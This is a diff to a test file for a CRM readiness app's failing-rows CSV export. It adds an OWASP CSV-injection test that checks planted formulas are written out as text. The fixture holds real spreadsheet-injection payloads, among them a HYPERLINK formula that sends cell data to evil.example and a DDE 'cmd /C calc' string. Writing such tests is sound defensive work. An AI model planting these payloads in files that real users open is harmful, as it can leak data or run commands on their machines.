@@ -1,7 +1,10 @@
 // A failing check's rows through the API, over the readiness fixture (crm_customers.csv has
 // C5 twice, C4 without e-mail, C3 with "carl(at)example.com" and country XX): paged, as CSV,
 // refused for table-level checks and unknown names, never running anything a caller sends.
+import { cpSync, mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import path from 'node:path';
+import { parse } from 'csv-parse/sync';
 import { expect, it } from 'vitest';
 import { applyDefinitions } from '../../src/store/definition-repository.js';
 import { workspaceDefinitions } from '../../src/workspace/definitions.js';
@@ -29,7 +32,7 @@ describeEachStore('failing rows API', (open) => {
     expect(csv.statusCode).toBe(200);
     expect(csv.headers['content-type']).toMatch(/^text\/csv/);
     expect(csv.headers['content-disposition']).toBe('attachment; filename="crm_customers--accepted_values_country_.csv"');
-    expect(csv.body).toBe('customer_id,country\r\nC3,XX\r\n');
+    expect(csv.body).toBe('"customer_id","country"\r\n"C3","XX"\r\n');
 
     const table = await t.as('viewer', { method: 'GET', url: url('row_count') });
     expect(table.statusCode).toBe(400);
@@ -60,5 +63,23 @@ describeEachStore('failing rows API', (open) => {
     // A run lands: its scores show.
     expect((await t.as('approver', { method: 'POST', url: '/api/readiness/runs', payload: { datasets: ['erp_orders'] } })).statusCode).toBe(201);
     expect((await list()).items.find((d) => d.id === 'erp_orders')!.latest).not.toBeNull();
+  });
+
+  it('writes a formula found in the data as text in the CSV (OWASP CSV injection), never as a formula', async ({ skip }) => {
+    // The company's data is untrusted too: a customer record whose fields are spreadsheet formulas.
+    const root = mkdtempSync(path.join(tmpdir(), 'traction-csv-injection-'));
+    cpSync(FIXTURE, root, { recursive: true });
+    const planted = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1', '\r=1'];
+    const rows = planted.map((p, i) => `F${i},"${p.replace(/"/g, '""')}",DE,smb,2026-01-10 08:00:00`);
+    writeFileSync(path.join(root, 'data/crm_customers.csv'), `customer_id,email,country,segment,updated_at\nC1,anna@example.com,DE,smb,2026-01-10 08:00:00\n${rows.join('\n')}\n`);
+    const t = await open(skip, { seed: false, workspaceRoot: root });
+    const { workspace } = await loadWorkspace(root);
+    await applyDefinitions(t.store, workspaceDefinitions(workspace!), 'seed', T0);
+    const csv = await t.as('viewer', { method: 'GET', url: url('regex(email)', '.csv') });
+    expect(csv.statusCode, csv.body).toBe(200);
+    const cells = parse(csv.body) as string[][];
+    expect(cells[0]).toEqual(['customer_id', 'email']);
+    expect(cells.slice(1).map((r) => r[1])).toEqual(planted.map((p) => `'${p}`));
+    for (const line of csv.body.split('\r\n').slice(1, -1)) expect(line).toMatch(/^"F\d","'/);
   });
 });
